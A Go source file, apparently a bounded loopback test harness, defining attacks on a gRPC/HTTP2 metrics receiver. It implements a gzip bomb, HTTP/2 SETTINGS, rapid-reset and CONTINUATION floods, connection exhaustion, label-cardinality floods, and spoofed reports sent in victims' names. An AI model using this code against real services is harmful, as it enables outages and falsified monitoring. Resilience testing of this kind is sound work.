package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"sync"
	"time"
)

// attack is what one sender does until the context ends. All are bounded in time and count, and on loopback.
type attack struct {
	name, what string
	run        func(ctx context.Context, target string)
}

// What is large is made once: making it would cost the victims more than sending it.
var (
	identifiers = sync.OnceValue(func() []byte {
		return bytes.Repeat(message(&pod{namespace: "evil", name: "many", workload: "many"}), 200_000)
	})
	bomb = sync.OnceValue(func() []byte {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		_, _ = w.Write(make([]byte, 64<<20)) // a buffer takes everything
		_ = w.Close()
		return b.Bytes()
	})
)

const attacker = "127.0.0.66"

var attacks = []attack{
	{"identifiers", "one message that says 200,000 times who reports, 4 connections", each(4, func(c *conn) {
		c.open(1, endHeaders)
		c.message(1, identifiers(), false)
	})},
	{"gzip", "64 MiB of zeros compressed, 16 connections", each(16, func(c *conn) {
		c.open(1, endHeaders, "grpc-encoding", "gzip")
		c.message(1, bomb(), true)
	})},
	{"padding", "88 KiB of padding on each of 1,000 connections, and news now and then", each(1000, func(c *conn) {
		c.open(1, endHeaders)
		p := pod{namespace: "evil", name: "padding", workload: "padding"}
		c.message(1, message(&p), false)
		for range 88 << 10 / 256 {
			c.frame(data, padded, 1, append([]byte{255}, make([]byte, 255)...))
		}
	})},
	{"onebyte", "a message of a byte a frame, 16 connections", each(16, func(c *conn) {
		c.open(1, endHeaders)
		c.frame(data, 0, 1, []byte{0, 3, 0, 0, 0})
		one := bytes.Repeat(frame(data, 0, 1, []byte{0}), 1000)
		for range 4000 {
			c.write(one)
		}
	})},
	{"trickle", "50 messages that are never finished on each of 50 connections that finish others", each(50, func(c *conn) {
		p := pod{namespace: "evil", name: "trickle", workload: "trickle"}
		c.open(1, endHeaders)
		c.message(1, message(&p), false)
		for i := range uint32(50) {
			c.open(2*i+3, endHeaders)
			c.frame(data, 0, 2*i+3, append([]byte{0, 0, 16, 0, 0}, make([]byte, 1000)...))
		}
		c.message(1, message(nil), false)
	})},
	{"settings", "SETTINGS without end, 4 connections", flood(func(uint32) []byte { return frame(settings, 0, 0, []byte{0, 4, 0, 1, 0, 0}) })},
	{"resets", "streams that are reset at once, 4 connections", flood(func(i uint32) []byte {
		return append(frame(headers, endHeaders, 2*i+1, block()), frame(reset, 0, 2*i+1, []byte{0, 0, 0, 8})...)
	})},
	{"emptydata", "empty DATA without end, 4 connections", flood(func(uint32) []byte { return frame(data, 0, 1, nil) })},
	{"continuation", "a block of headers without end, 4 connections", flood(func(i uint32) []byte {
		if i == 0 {
			return frame(headers, 0, 1, block())
		}
		return frame(continuation, 0, 1, nil)
	})},
	{"connections", "5,000 connections that say nothing more", each(5000, func(*conn) {})},
	{"podflood", "100,000 pods' names, a message each, 8 connections", func(ctx context.Context, target string) {
		parallel(8, func(n int) {
			for i := 0; ctx.Err() == nil && i < 100_000/8; {
				c, err := dial(ctx, attacker, target)
				if err != nil {
					return
				}
				for s := uint32(1); s < 200 && c.err == nil && ctx.Err() == nil; s, i = s+2, i+1 {
					p := pod{namespace: "evil", name: numbered(numbered("flood", n), i), workload: "flood"}
					c.open(s, endHeaders)
					c.message(s, message(&p, requests(time.Now(), 1)), false)
				}
				_ = c.Close()
			}
		})
	}},
	{"labelflood", "2,500 series of 60 labels of 2 KB at each flush, 4 connections", flushes(4, 2500, func(i int) []string {
		labels := received("evil", "labels", "own", numbered("x", i))
		for l := range 50 {
			labels = append(labels, numbered("label", l), string(bytes.Repeat([]byte("v"), 2000)))
		}
		return labels
	})},
	{"hostflood", "6,000 more Host headers at each flush", flushes(1, 6000, func(i int) []string {
		return received("evil", "labels", "destination_service", numbered("host", i))
	})},
	{"slowone", "the victims' workload in the labels of another pod that says it flushes every hour, once", func(ctx context.Context, target string) {
		c, err := dial(ctx, attacker, target)
		if err != nil {
			return
		}
		p := pod{namespace: "evil", name: "slow", workload: "slow", flush: "1h"}
		c.open(1, endHeaders)
		c.message(1, message(&p, requests(time.Now(), 1, received("shop", "web")...)), false)
		sleep(ctx, 100*time.Millisecond)
		_ = c.Close()
		<-ctx.Done()
	}},
	{"phantom", "the victims' workload in the labels of another pod, 1,000 requests a second", func(ctx context.Context, target string) {
		c, err := dial(ctx, attacker, target)
		if err != nil {
			return
		}
		c.open(1, endHeaders)
		p := &pod{namespace: "evil", name: "phantom", workload: "phantom", flush: "1s"}
		for start := time.Now(); ctx.Err() == nil && c.err == nil; p = nil {
			c.message(1, message(p, requests(time.Now(), 1000*time.Since(start).Seconds(), received("shop", "web")...)), false)
			sleep(ctx, flush)
		}
	}},
	{"steal", "a message in each victim's name, once, and gone", func(ctx context.Context, target string) {
		for i := range victims {
			c, err := dial(ctx, attacker, target)
			if err != nil {
				return
			}
			p := victim(i)
			c.open(1, endHeaders)
			c.message(1, message(&p), false)
			sleep(ctx, 40*time.Millisecond)
			_ = c.Close()
		}
		<-ctx.Done()
	}},
	{"zero", "flushes in each victim's name, without requests", func(ctx context.Context, target string) {
		parallel(victims, func(i int) {
			c, err := dial(ctx, attacker, target)
			if err != nil {
				return
			}
			defer func() { _ = c.Close() }()
			c.open(1, endHeaders)
			for p := victim(i); ctx.Err() == nil && c.err == nil; {
				c.message(1, message(&p, requests(time.Now(), 0, "reporter", "source")), false)
				sleep(ctx, flush)
			}
		})
	}},
}

func parallel(n int, f func(i int)) {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() { f(i) })
	}
	all.Wait()
}

// each opens n connections, does something on each, and keeps them; what is closed is opened again.
func each(n int, f func(c *conn)) func(context.Context, string) {
	return func(ctx context.Context, target string) {
		slots := make(chan struct{}, 16) // at work at once
		parallel(n, func(int) {
			for ctx.Err() == nil {
				slots <- struct{}{}
				c, err := dial(ctx, attacker, target)
				if err == nil {
					f(c)
				}
				<-slots
				for err == nil && c.err == nil && ctx.Err() == nil {
					sleep(ctx, time.Second)
					c.frame(window, 0, 0, []byte{0, 0, 0, 1})
				}
				if err == nil {
					_ = c.Close()
				}
				sleep(ctx, time.Second)
			}
		})
	}
}

// flood sends frames as fast as they are taken on 4 connections, and connects again.
func flood(next func(i uint32) []byte) func(context.Context, string) {
	return func(ctx context.Context, target string) {
		parallel(4, func(int) {
			for ctx.Err() == nil {
				c, err := dial(ctx, attacker, target)
				if err != nil {
					sleep(ctx, time.Second)
					continue
				}
				var b []byte
				for i := uint32(0); c.err == nil && ctx.Err() == nil; i++ {
					if b = append(b, next(i)...); len(b) > 32<<10 {
						c.write(b)
						b = b[:0]
					}
				}
				_ = c.Close()
			}
		})
	}
}

// flushes lets n pods flush every second, each time with more series, 10 times at most.
func flushes(n, series int, labels func(i int) []string) func(context.Context, string) {
	return func(ctx context.Context, target string) {
		parallel(n, func(pods int) {
			c, err := dial(ctx, attacker, target)
			if err != nil {
				return
			}
			defer func() { _ = c.Close() }()
			c.open(1, endHeaders)
			p := pod{namespace: "evil", name: numbered("labels", pods), workload: "labels", flush: "1s"}
			for k := 0; k < 10 && ctx.Err() == nil && c.err == nil; k++ {
				b := message(&p)
				for i := range series {
					b = append(b, message(nil, requests(time.Now(), 1, labels(k*series+i)...))...)
				}
				c.message(1, b, false)
				sleep(ctx, flush)
			}
			<-ctx.Done()
		})
	}
}
